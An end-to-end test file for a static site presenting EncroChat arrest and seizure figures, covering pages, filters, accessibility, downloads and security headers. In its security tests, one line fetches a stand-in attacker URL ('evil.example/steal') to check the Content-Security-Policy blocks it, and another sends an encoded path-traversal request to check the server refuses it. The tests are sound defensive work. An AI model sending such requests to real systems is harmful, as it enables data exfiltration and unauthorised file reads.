/**
 * The built site with the real dataset, in Debian's Chromium: every page at desktop and phone width
 * (no console error, no request to another origin, axe clean, layout within the screen, a
 * screenshot), the numbers against the dataset package, filters and deep links, the keyboard, bad
 * addresses, downloads and the CSV of a filtered view, and the Content-Security-Policy.
 */
import fs from 'node:fs';
import http from 'node:http';
import path from 'node:path';
import zlib from 'node:zlib';
import { describe, expect, it } from 'vitest';
import {
  buildSeries,
  claimsTable,
  claimsTableFields,
  dataset,
  findConflicts,
  isFigure,
  latestTable,
} from '@encrochat-ledger/dataset';
import { formatEdtf, formatWorded, vocabularyLabel } from '../src/format.js';
import { selectHeadlines } from '../src/headline.js';
import { fold } from '../src/query.js';
import { EXPORT_FILES } from './global-setup.js';
import {
  browserSession,
  expectCleanPage,
  expectQuiet,
  openNextClaimByKeyboard,
  DESKTOP,
  openDetails,
  sites,
  visit,
  WIDTHS,
  type Watched,
} from './support.js';

const session = browserSession(sites.default);

const byId = new Map(claimsTable.map((r) => [r.claim_id, r]));
const points = buildSeries(claimsTable);
const conflicts = findConflicts(points);
const conflictClaim = conflicts[0]!.claims[0]!;
const sourceWithUrl = claimsTable.find((r) => r.source_url && r.source_url.startsWith('https://'))!;

const PAGES: [name: string, hash: string][] = [
  ['overview', '#/'],
  ['charts', '#/charts?metric=arrests&place=united-kingdom'],
  ['claims', '#/claims'],
  ['claims-filtered', '#/claims?metric=cash_seized&place=united-kingdom&sort=value'],
  ['claim', `#/claim/${encodeURIComponent(conflictClaim.claim_id)}`],
  ['sources', '#/sources'],
  ['source', `#/source/${sourceWithUrl.source_id}`],
  ['timeline', '#/timeline'],
  ['about', '#/about'],
  ['download', '#/download'],
  ['bad-address', '#/claims?page=0&colour=red'],
];

describe('every page', () => {
  for (const [label, viewport] of WIDTHS) {
    it.each(PAGES)(
      `%s loads cleanly at ${label} width, with no axe violation`,
      async (name, hash) => {
        const w = await session.open(viewport);
        await visit(w, session.url, hash);
        await w.page.locator('h1').first().waitFor({ state: 'visible' });
        expect(await w.page.locator('html').getAttribute('data-ready')).toBe('true');
        // Open every "table of the figures" so axe checks the text alternatives too.
        await expectCleanPage(w, `${name}-${label}`, (page) => openDetails(page));
      },
    );
  }
});

describe('numbers', () => {
  it('the overview shows the figure to quote first (the latest rule) for each metric and place', async () => {
    const expected = selectHeadlines(points, latestTable);
    const w = await session.open();
    await visit(w, session.url, '#/');
    const shown = await w.page.$$eval('[data-metric][data-place][data-claim]', (els) =>
      els.map((el) => ({
        metric: el.getAttribute('data-metric')!,
        place: el.getAttribute('data-place')!,
        claim: el.getAttribute('data-claim')!,
        kind: el.getAttribute('data-kind'),
        figure: el.querySelector('a')!.textContent!,
        sources: el.querySelector('[data-sources]')?.getAttribute('data-sources') ?? null,
      })),
    );
    // Cards of the UK, Europe and the world, then the table of places: each figure once per place.
    const seen = new Map(shown.map((s) => [`${s.metric}@${s.place}`, s]));
    expect([...seen.keys()].sort()).toEqual(expected.map((h) => `${h.metric}@${h.place}`).sort());
    for (const h of expected) {
      const s = seen.get(`${h.metric}@${h.place}`)!;
      expect(s.claim).toBe(h.latest.headline_claim_id);
      expect(s.kind).toBe(h.latest.headline_kind);
      expect(s.figure).toBe(formatWorded(byId.get(s.claim)!));
    }
    for (const s of shown.filter((x) => x.sources !== null)) {
      const h = expected.find((e) => e.metric === s.metric && e.place === s.place)!;
      expect(Number(s.sources)).toBe(h.sources);
    }
    // The UK cards: spot-check a figure against the claims table directly.
    const ukArrests = shown.find((s) => s.metric === 'arrests' && s.place === 'united-kingdom')!;
    const row = byId.get(ukArrests.claim)!;
    expect(row.metric).toBe('arrests');
    expect(row.place).toBe('united-kingdom');
    expect(ukArrests.figure.replace(/\D/g, '')).toBe(String(row.value ?? row.min ?? row.max));
    expectQuiet(w);
  });

  it('a card gives the publisher, reliability and date of its figure, the official figure beside a newer one, and marks disagreement', async () => {
    const w = await session.open();
    await visit(w, session.url, '#/');
    const card = (metric: string, place: string) =>
      w.page.locator(`article.card[data-metric="${metric}"][data-place="${place}"]`);
    // Worldwide arrests: Europol's 6,558 of 27 June 2023 (an official copy), not a later restatement; sources disagree that day.
    const world = card('arrests', 'world');
    const europol = byId.get((await world.getAttribute('data-claim'))!)!;
    expect(europol.source_id).toBe('europol-2023-06-27-dismantling-encrochat-6500-arrests');
    expect(await world.getAttribute('data-kind')).toBe('official');
    const worldText = (await world.textContent())!;
    expect(worldText).toContain(formatWorded(europol));
    expect(worldText).toContain(`as of ${formatEdtf(europol.as_of)}`);
    expect(worldText).toContain(europol.source_publisher!);
    expect(worldText).toContain('official copy');
    // Europol's 6,558, named as Europol's: the release as copied by the site where it was read.
    expect(await world.locator('.figure a').textContent()).toBe('6,558');
    const release = dataset.sources.find((s) => s.id === europol.source_id)!;
    expect([release.original_publisher, release.publisher]).toEqual([
      'Europol',
      'Il Metropolitano',
    ]);
    expect(await world.locator(`.meta a[href="#/source/${europol.source_id}"]`).textContent()).toBe(
      'Europol via Il Metropolitano',
    );
    const worldRow = latestTable.find((r) => r.series_id === 'arrests::count:world:::encrochat')!;
    if (worldRow.in_conflict) {
      expect(await world.locator('.badge.warn').textContent()).toBe('sources disagree');
      expect(Number(await world.locator('.badge.warn').getAttribute('data-disagreeing'))).toBe(
        worldRow.disagreeing_claims,
      );
    } else expect(await world.locator('.badge.warn').count()).toBe(0);
    // UK arrests: a later press total first, the latest official figure (NCA) beside it.
    const uk = card('arrests', 'united-kingdom');
    const ukRow = latestTable.find(
      (r) => r.series_id === 'arrests::count:united-kingdom:venetic::encrochat',
    )!;
    expect(await uk.getAttribute('data-claim')).toBe(ukRow.headline_claim_id);
    expect(await uk.getAttribute('data-kind')).toBe('newer-non-official');
    const official = uk.locator('.official');
    expect(await official.getAttribute('data-official-claim')).toBe(ukRow.official_claim_id);
    expect(await official.textContent()).toContain(
      formatWorded(byId.get(ukRow.official_claim_id!)!),
    );
    expect(await official.textContent()).toContain('National Crime Agency');
    // A card whose latest figure is a restatement says so, and a card of a total with newer breakdowns only says that.
    for (const hl of selectHeadlines(points, latestTable).filter(
      (h) =>
        ['arrests', 'drugs_seized'].includes(h.metric) &&
        ['united-kingdom', 'europe', 'world'].includes(h.place),
    )) {
      const c = card(hl.metric, hl.place);
      if (hl.latest.headline_reason === 'restates')
        expect(await c.locator('.later').getAttribute('data-later-claim')).toBe(
          hl.latest.latest_claim_id,
        );
      expect(await c.locator('.newer-breakdowns').count()).toBe(hl.latest.newer_breakdowns ? 1 : 0);
    }
    expectQuiet(w);
  });

  it('a chart plots every figure of its series, with a table of the same figures and the quote on focus', async () => {
    const w = await session.open();
    await visit(w, session.url, '#/charts?metric=arrests&place=united-kingdom');
    const series = points.filter(
      (p) => p.best.metric === 'arrests' && p.best.place === 'united-kingdom',
    );
    const figures = claimsTable.filter(
      (r) => r.metric === 'arrests' && r.place === 'united-kingdom' && isFigure(r),
    );
    const marks = await w.page.$$eval('a.mark', (els) =>
      els.map((e) => e.getAttribute('data-claim')!),
    );
    expect(marks.sort()).toEqual(figures.map((r) => r.claim_id).sort());
    expect(await w.page.locator('.chart').count()).toBe(
      new Set(series.map((p) => p.series_id)).size,
    );
    expect(await w.page.locator('.chart-table tbody tr').count()).toBe(figures.length);
    // Best figures are marked as such; marks of dates where sources disagree carry a ring.
    const best = await w.page.$$eval('a.mark.best', (els) =>
      els.map((e) => e.getAttribute('data-claim')!),
    );
    expect(best.sort()).toEqual(series.map((p) => p.best.claim_id).sort());
    const conflicting = new Set(
      conflicts
        .filter((c) => c.best.metric === 'arrests' && c.best.place === 'united-kingdom')
        .flatMap((c) => c.claims.map((r) => r.claim_id)),
    );
    const ringed = await w.page.$$eval('a.mark.conflict', (els) =>
      els.map((e) => e.getAttribute('data-claim')!),
    );
    expect(new Set(ringed)).toEqual(conflicting);
    // Keyboard focus on a mark shows its quote and source.
    const first = w.page.locator('a.mark').first();
    await first.focus();
    const tooltip = w.page.locator('.tooltip:not([hidden])');
    await expect.poll(() => tooltip.count()).toBe(1);
    const claim = byId.get((await first.getAttribute('data-claim'))!)!;
    const text = (await tooltip.textContent())!;
    expect(text).toContain(claim.quote.slice(0, 60));
    expect(text).toContain(claim.source_title.slice(0, 40));
    await w.page.keyboard.press('Escape');
    await expect.poll(() => tooltip.count()).toBe(0);
    // Hover shows another mark's quote.
    const last = w.page.locator('a.mark').last();
    await last.hover();
    const lastClaim = byId.get((await last.getAttribute('data-claim'))!)!;
    await expect
      .poll(async () => (await w.page.locator('.tooltip:not([hidden])').textContent()) ?? '')
      .toContain(lastClaim.quote.slice(0, 40));
    expectQuiet(w);
  });

  it('a claim page shows the figure as worded, the verbatim quote, the citation and the claims that disagree', async () => {
    const group = conflicts[0]!;
    const row = group.claims[0]!;
    const w = await session.open();
    await visit(w, session.url, `#/claim/${encodeURIComponent(row.claim_id)}`);
    expect(await w.page.locator('h1 .value').textContent()).toBe(formatWorded(row));
    expect(await w.page.locator('blockquote').textContent()).toBe(row.quote);
    const sourceLink = w.page.locator('a.external').first();
    if (row.source_url) {
      expect(await sourceLink.getAttribute('href')).toBe(new URL(row.source_url).href);
      expect((await sourceLink.getAttribute('rel'))!.split(' ').sort()).toEqual([
        'noopener',
        'noreferrer',
      ]);
    }
    await expect
      .poll(() => w.page.locator('#h-conflict').textContent())
      .toBe('Sources that disagree');
    const listed = await w.page.$$eval('[aria-labelledby="h-conflict"] a', (els) =>
      els.map((e) => decodeURIComponent(e.getAttribute('href')!.replace('#/claim/', ''))),
    );
    expect(listed.sort()).toEqual(
      group.claims
        .filter((c) => c.claim_id !== row.claim_id)
        .map((c) => c.claim_id)
        .sort(),
    );
    await expect
      .poll(async () => (await w.page.locator('.citation').first().textContent()) ?? '')
      .toContain(row.quote.slice(0, 50));
    expectQuiet(w);
  });
});

describe('claims table: filters, search, sort, deep links', () => {
  const expectedIds = (test: (r: (typeof claimsTable)[number]) => boolean) =>
    claimsTable.filter(test).map((r) => r.claim_id);
  const shownCount = async (w: Watched) =>
    Number(
      ((await w.page.locator('#result-count').textContent()) ?? '')
        .replace(/,/g, '')
        .match(/^(\d+) claim/)![1],
    );

  it('filters by metric, place (and places within it), search and dates, and the address keeps it', async () => {
    const w = await session.open();
    await visit(w, session.url, '#/claims');
    expect(await shownCount(w)).toBe(claimsTable.length);
    await w.page.selectOption('#f-metric', 'arrests');
    await w.page.selectOption('#f-place', 'united-kingdom');
    const ukPlaces = new Set([
      'united-kingdom',
      'england',
      'scotland',
      'wales',
      'northern-ireland',
      'england-and-wales',
    ]);
    // Places within the UK: every place whose chain of parents reaches it.
    const places = JSON.parse(
      fs.readFileSync(path.join(sites.default, 'data', 'dataset.json'), 'utf8'),
    ).collections.places as { id: string; parent?: string }[];
    const parent = new Map(places.map((p) => [p.id, p.parent]));
    const inUk = (id: string): boolean => {
      for (let p: string | undefined = id, n = 0; p && n < 20; p = parent.get(p), n++)
        if (p === 'united-kingdom') return true;
      return false;
    };
    expect([...ukPlaces].filter((p) => parent.has(p)).every(inUk)).toBe(true);
    let ids = expectedIds((r) => r.metric === 'arrests' && inUk(r.place));
    expect(await shownCount(w)).toBe(ids.length);
    expect(new URL(w.page.url()).hash).toBe('#/claims?metric=arrests&place=united-kingdom');
    const rows = await w.page.$$eval('tr[data-claim]', (els) =>
      els.map((e) => e.getAttribute('data-claim')!),
    );
    expect(rows.length).toBe(Math.min(50, ids.length));
    expect(rows.every((id) => ids.includes(id))).toBe(true);
    // Each row shows its claim's figure, date, metric and place as in the claims table.
    const cells = await w.page.$$eval('tr[data-claim]', (els) =>
      els.map((e) => ({
        id: e.getAttribute('data-claim')!,
        cells: [...e.querySelectorAll('td')].map((td) => td.textContent ?? ''),
      })),
    );
    for (const {
      id,
      cells: [date, figure, metric, place],
    } of cells) {
      const r = byId.get(id)!;
      // A withdrawn claim is listed with a "withdrawn" badge after its figure.
      expect(figure).toBe(`${formatWorded(r)}${r.withdrawn ? 'withdrawn' : ''}`);
      expect(date).toBe(formatEdtf(r.as_of, true));
      expect(metric).toBe(
        `${r.metric_label}${r.breakdown_key ? ` (${vocabularyLabel(r.breakdown_value ?? '')})` : ''}`,
      );
      expect(place).toBe(r.place_name);
    }
    // Latest first by default.
    const starts = rows.map((id) => byId.get(id)!.as_of_start ?? '');
    expect(starts).toEqual([...starts].sort().reverse());

    await w.page.fill('#f-q', 'Venetic');
    ids = expectedIds(
      (r) => r.metric === 'arrests' && inUk(r.place) && fold(r.quote).includes('venetic'),
    );
    expect(await shownCount(w)).toBe(ids.length);
    await w.page.fill('#f-q', '');
    await w.page.fill('#f-from', '2021-01-01');
    ids = expectedIds(
      (r) =>
        r.metric === 'arrests' &&
        inUk(r.place) &&
        (r.as_of_end === null ? r.as_of_start !== null : r.as_of_end >= '2021-01-01'),
    );
    expect(await shownCount(w)).toBe(ids.length);
    expect(new URL(w.page.url()).hash).toBe(
      '#/claims?metric=arrests&place=united-kingdom&from=2021-01-01',
    );

    // The address restores the view.
    await w.page.reload();
    await w.page.waitForSelector('html[data-ready]');
    expect(await w.page.inputValue('#f-metric')).toBe('arrests');
    expect(await w.page.inputValue('#f-place')).toBe('united-kingdom');
    expect(await w.page.inputValue('#f-from')).toBe('2021-01-01');
    expect(await shownCount(w)).toBe(ids.length);

    // Organisation, operation, kind of source.
    await visit(w, session.url, '#/claims?org=metropolitan-police&op=venetic&kind=news-article');
    const venetic = new Set([
      'venetic',
      ...JSON.parse(fs.readFileSync(path.join(sites.default, 'data', 'dataset.json'), 'utf8'))
        .collections.operations.filter((o: { parent?: string }) => o.parent === 'venetic')
        .map((o: { id: string }) => o.id),
    ]);
    ids = expectedIds(
      (r) =>
        (r.organisations?.includes('metropolitan-police') ||
          r.attributed_organisation === 'metropolitan-police') &&
        r.operation !== null &&
        venetic.has(r.operation) &&
        r.source_kind === 'news-article',
    );
    expect(await shownCount(w)).toBe(ids.length);
    expect(await w.page.inputValue('#f-org')).toBe('metropolitan-police');
    expectQuiet(w);
  });

  it('sorts by a column, pages through, and a row opens its claim', async () => {
    const w = await session.open();
    await visit(w, session.url, '#/claims?metric=arrests');
    await w.page.click('button[data-sort="value"]');
    expect(new URL(w.page.url()).hash).toBe('#/claims?metric=arrests&sort=value&dir=desc');
    expect(await w.page.getAttribute('th:has(button[data-sort="value"])', 'aria-sort')).toBe(
      'descending',
    );
    const arrests = claimsTable.filter((r) => r.metric === 'arrests');
    const top = Math.max(...arrests.map((r) => r.value ?? r.min ?? r.max ?? -Infinity));
    const first = byId.get((await w.page.getAttribute('tr[data-claim]', 'data-claim'))!)!;
    expect(first.value ?? first.min ?? first.max).toBe(top);
    // Sort buttons work from the keyboard.
    await w.page.focus('button[data-sort="value"]');
    await w.page.keyboard.press('Enter');
    expect(new URL(w.page.url()).hash).toBe('#/claims?metric=arrests&sort=value&dir=asc');

    await visit(w, session.url, '#/claims');
    const firstPage = await w.page.$$eval('tr[data-claim]', (els) =>
      els.map((e) => e.getAttribute('data-claim')!),
    );
    await w.page.click('.pager button:has-text("Next")');
    expect(new URL(w.page.url()).hash).toBe('#/claims?page=2');
    const secondPage = await w.page.$$eval('tr[data-claim]', (els) =>
      els.map((e) => e.getAttribute('data-claim')!),
    );
    expect(secondPage).toHaveLength(50);
    expect(secondPage.some((id) => firstPage.includes(id))).toBe(false);
    await visit(w, session.url, '#/claims?page=2');
    expect(
      await w.page.$$eval('tr[data-claim]', (els) => els.map((e) => e.getAttribute('data-claim')!)),
    ).toEqual(secondPage);

    // Clicking a row (not its link) opens the claim.
    const id = secondPage[3]!;
    await w.page.click(`tr[data-claim="${id}"] td[data-label="Place"]`);
    await w.page.waitForFunction((h) => location.hash === h, `#/claim/${encodeURIComponent(id)}`);
    await expect
      .poll(() => w.page.locator('h1 .value').textContent())
      .toBe(formatWorded(byId.get(id)!));
    expectQuiet(w);
  });

  it('works with the keyboard alone: skip link, filters, opening a claim', async () => {
    const w = await session.open();
    await visit(w, session.url, '#/claims');
    await w.page.keyboard.press('Tab');
    expect(await w.page.evaluate(() => document.activeElement?.textContent)).toBe(
      'Skip to content',
    );
    await w.page.keyboard.press('Enter');
    expect(await w.page.evaluate(() => document.activeElement?.id)).toBe('main');
    // Tab to the search box, type, then to the metric select and choose with the keyboard.
    await w.page.keyboard.press('Tab');
    expect(await w.page.evaluate(() => document.activeElement?.id)).toBe('f-q');
    await w.page.keyboard.type('tonnes');
    const count = async () =>
      Number(
        ((await w.page.locator('#result-count').textContent()) ?? '')
          .replace(/,/g, '')
          .match(/^(\d+)/)![1],
      );
    expect(await count()).toBe(claimsTable.filter((r) => fold(r.quote).includes('tonnes')).length);
    await w.page.keyboard.press('Tab');
    expect(await w.page.evaluate(() => document.activeElement?.id)).toBe('f-metric');
    await w.page.keyboard.press('ArrowDown');
    // The arrow keys move the choice; Enter applies it.
    await w.page.keyboard.press('Enter');
    const metric = await w.page.inputValue('#f-metric');
    expect(metric).not.toBe('');
    expect(await count()).toBe(
      claimsTable.filter((r) => r.metric === metric && fold(r.quote).includes('tonnes')).length,
    );
    expect(new URL(w.page.url()).hash).toBe(`#/claims?metric=${metric}&q=tonnes`);
    // Tab on to the first claim link and open it.
    await openNextClaimByKeyboard(w.page);
    // Focus moves to the heading of the new page, once it is rendered (after the hash changes: later on a loaded machine).
    await w.page
      .waitForFunction(() => document.activeElement?.tagName === 'H1', undefined, {
        timeout: 120_000,
      })
      .catch(() => {});
    expect(await w.page.evaluate(() => document.activeElement?.tagName)).toBe('H1');
    expectQuiet(w);
  });

  it('a bad address shows a clear message, not a blank page, and a way on', async () => {
    const w = await session.open();
    for (const [hash, text] of [
      ['#/claims?page=0', '“page” must be 1 or more'],
      ['#/claims?metric=arrests&colour=red', '“colour” is not a setting of this page'],
      ['#/claims?metric=no_such_metric', 'There is no metric “no_such_metric” in this dataset.'],
      ['#/claims?from=2022-01-01&to=2021-01-01', '“from” (2022-01-01) is after “to” (2021-01-01).'],
      ['#/claim/no-such-source/no-such-claim', 'There is no claim “no-such-source/no-such-claim”'],
      ['#/source/no-such-source', 'There is no source “no-such-source”'],
      ['#/claim/%E0%A4%A', 'invalid percent-encoding'],
      ['#/somewhere', '“/somewhere” is not a page of this site.'],
      ['#/charts?metric=arrests&place=atlantis', 'There is no place “atlantis” in this dataset.'],
    ] as const) {
      await visit(w, session.url, hash);
      const alert = w.page.locator('[role="alert"]');
      await expect.poll(() => alert.count()).toBe(1);
      await expect.poll(async () => (await alert.textContent()) ?? '').toContain(text);
      await alert.locator('h1, h2').first().waitFor({ state: 'visible' });
    }
    // The offered link works.
    await visit(w, session.url, '#/claims?metric=arrests&colour=red');
    await w.page.click('[role="alert"] a.button');
    await w.page.waitForFunction(() => location.hash === '#/claims?metric=arrests');
    await expect
      .poll(async () => (await w.page.locator('#result-count').textContent()) ?? '')
      .toContain('match');
    expectQuiet(w);
  });
});

describe('a site copied without its data', () => {
  it('says so clearly instead of showing a blank page', async () => {
    const broken = path.join(sites.default, '..', 'site-without-data');
    fs.rmSync(broken, { recursive: true, force: true });
    fs.cpSync(sites.default, broken, { recursive: true });
    fs.rmSync(path.join(broken, 'data'), { recursive: true });
    const other = await session.serve(broken);
    const w = await session.open(DESKTOP, { origin: other.url });
    await visit(w, other.url, '#/claims');
    expect(await w.page.locator('html').getAttribute('data-ready')).toBe('error');
    const alert = w.page.locator('[role="alert"]');
    expect(await alert.locator('h1').textContent()).toBe('The dataset could not be loaded');
    expect(await alert.textContent()).toContain('could not load data/dataset.json (HTTP 404)');
    expect(w.foreignRequests).toEqual([]);
  });
});

describe('downloads', () => {
  it('lists the exporter’s files copied into the site, and serves them', async () => {
    const w = await session.open();
    await visit(w, session.url, '#/download');
    const links = await w.page.$$eval('#export-files a', (els) =>
      els.map((e) => e.getAttribute('href')!),
    );
    expect(links).toEqual(['downloads/README.md', 'downloads/SHA256SUMS', 'downloads/claims.csv']);
    for (const [name, text] of Object.entries(EXPORT_FILES)) {
      const body = await w.page.evaluate(async (u) => (await fetch(u)).text(), `downloads/${name}`);
      expect(body).toBe(text);
    }
    expectQuiet(w);
  });

  it('offers the CSV of the current filtered view, with the claims-table columns and formula escaping', async () => {
    const w = await session.open(DESKTOP, { acceptDownloads: true });
    await visit(w, session.url, '#/claims?metric=cash_seized&q=million');
    const [download] = await Promise.all([
      w.page.waitForEvent('download'),
      w.page.click('#csv-button'),
    ]);
    const csv = fs.readFileSync((await download.path())!, 'utf8');
    expect(download.suggestedFilename()).toMatch(
      /^encrochat-ledger-\d+\.\d+\.\d+.*-claims-cash-seized-million\.csv$/,
    );
    const lines = csv.split('\r\n');
    expect(lines[0]).toBe(claimsTableFields.map((f) => f.name).join(','));
    expect(lines.at(-1)).toBe('');
    const expected = claimsTable.filter(
      (r) => r.metric === 'cash_seized' && fold(r.quote).includes('million'),
    );
    expect(lines.length - 2).toBe(expected.length);
    const ids = lines.slice(1, -1).map((l) => l.split(',')[0]);
    expect(ids.sort()).toEqual(expected.map((r) => r.claim_id).sort());

    // The Download page makes the same file from the same filters in its address.
    await visit(w, session.url, '#/download?metric=cash_seized&q=million');
    await expect
      .poll(async () => (await w.page.locator('#view-summary').textContent()) ?? '')
      .toContain(`${expected.length} claims`);
    const [again] = await Promise.all([
      w.page.waitForEvent('download'),
      w.page.click('#download-view'),
    ]);
    expect(fs.readFileSync((await again.path())!, 'utf8')).toBe(csv);
    expectQuiet(w);
  });
});

describe('safety', () => {
  const html = () => fs.readFileSync(path.join(sites.default, 'index.html'), 'utf8');

  it('the built page carries the Content-Security-Policy and no inline script, style or handler', () => {
    const page = html();
    // Attributes on lines of their own since the repository was formatted (prettier).
    const csp = /<meta\s+http-equiv="Content-Security-Policy"\s+content="([^"]+)"/.exec(page)?.[1];
    expect(csp).toBeDefined();
    const directives = new Map(
      csp!
        .split(';')
        .map((d) => d.trim().split(/\s+/))
        .map(([k, ...v]) => [k!, v.join(' ')]),
    );
    expect(directives.get('default-src')).toBe("'self'");
    expect(directives.get('script-src')).toBe("'self'");
    expect(directives.get('style-src')).toBe("'self'");
    expect(directives.get('img-src')).toBe("'self' data:");
    expect(directives.get('connect-src')).toBe("'self'");
    expect(directives.get('object-src')).toBe("'none'");
    expect(directives.get('base-uri')).toBe("'none'");
    expect(directives.get('form-action')).toBe("'none'");
    const scripts = [...page.matchAll(/<script\b([^>]*)>([\s\S]*?)<\/script>/g)];
    expect(scripts.length).toBeGreaterThan(0);
    for (const [, attrs, body] of scripts) {
      expect(body!.trim(), 'inline script').toBe('');
      expect(attrs).toMatch(/\bsrc="\.\/assets\/[^"]+\.js"/);
    }
    expect(page).not.toMatch(/<style\b/);
    expect(page).not.toMatch(/\sstyle=/);
    expect(page).not.toMatch(/\son[a-z]+=/i);
    expect(page).not.toMatch(/(src|href)="(https?:)?\/\//);
  });

  it('the browser enforces it: inline script and requests to other origins are refused', async () => {
    const w = await session.open();
    await visit(w, session.url, '#/');
    const result = await w.page.evaluate(async () => {
      const s = document.createElement('script');
      s.textContent = 'window.__inline = 1';
      document.head.append(s);
      let fetched: string;
      try {
        await fetch('http://evil.example/steal');
        fetched = 'yes';
      } catch {
        fetched = 'refused';
      }
      return { inline: (window as unknown as { __inline?: number }).__inline ?? null, fetched };
    });
    expect(result).toEqual({ inline: null, fetched: 'refused' });
    expect(w.consoleProblems.join('\n')).toMatch(/Content Security Policy/);
    // Refused before it left the page: nothing reached another origin.
    expect(w.requests.filter((u) => u.includes('evil.example'))).toEqual([]);
  });

  it('the server sends the policy too, and serves only the site', async () => {
    const res = await fetch(session.url);
    expect(res.headers.get('content-security-policy')).toContain("script-src 'self'");
    expect(res.headers.get('content-security-policy')).toContain("frame-ancestors 'none'");
    expect(res.headers.get('x-content-type-options')).toBe('nosniff');
    expect((await fetch(new URL('/../../package.json', session.url))).status).toBe(404);
    // A raw request path that climbs out of the site (fetch would normalise it away).
    const status = await new Promise<number>((resolve, reject) => {
      const req = http.get(
        { host: '127.0.0.1', port: new URL(session.url).port, path: '/..%2f..%2fpackage.json' },
        (res) => {
          res.resume();
          resolve(res.statusCode ?? 0);
        },
      );
      req.on('error', reject);
    });
    expect(status).toBe(403);
    expect((await fetch(`${session.url}data/dataset.json`)).headers.get('content-type')).toMatch(
      /^application\/json/,
    );
  });
});

describe('size', () => {
  it('ships at most 150 kB of JavaScript gzipped, without the data', () => {
    const assets = path.join(sites.default, 'assets');
    const js = fs.readdirSync(assets).filter((f) => f.endsWith('.js'));
    expect(js.length).toBeGreaterThan(0);
    const code = js.map((f) => fs.readFileSync(path.join(assets, f)));
    const gzipped = code.reduce((n, b) => n + zlib.gzipSync(b, { level: 9 }).length, 0);
    expect(gzipped).toBeLessThanOrEqual(150_000);
    // The dataset is fetched, not bundled: no quote or claim id is in the code.
    const text = code.map((b) => b.toString('utf8')).join('\n');
    for (const r of claimsTable.slice(0, 50)) {
      expect(text).not.toContain(r.claim_id);
      expect(text).not.toContain(r.quote.slice(0, 40));
    }
    expect(fs.statSync(path.join(sites.default, 'data', 'dataset.json')).size).toBeGreaterThan(
      10_000,
    );
    fs.mkdirSync(path.join(sites.default, '..'), { recursive: true });
    process.stdout.write(
      `viewer JavaScript: ${(gzipped / 1000).toFixed(1)} kB gzipped (${js.length} file(s))\n`,
    );
  });
});
